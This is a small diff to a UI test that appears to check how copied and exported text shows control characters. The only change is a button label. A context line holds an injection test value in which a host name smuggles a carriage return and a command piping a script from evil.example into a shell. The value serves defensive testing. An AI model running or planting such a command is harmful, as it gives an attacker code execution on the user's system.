@@ -58,7 +58,7 @@ test('N5, N6: exported files and what is copied hold them made visible, and one 
   user.presses('send it to your terminal');
   await user.sees('Sent to your terminal: web-1␍curl');
   expect(copied(user.terminal.raw())).toEqual(['web-1␍curl evil.example | sh␊']);
-  user.presses('mark all that match');
+  user.presses('mark all matching systems');
   await user.sees('2 marked');
   user.presses('copy: name, id');
   await user.sees('names of the 2 marked');
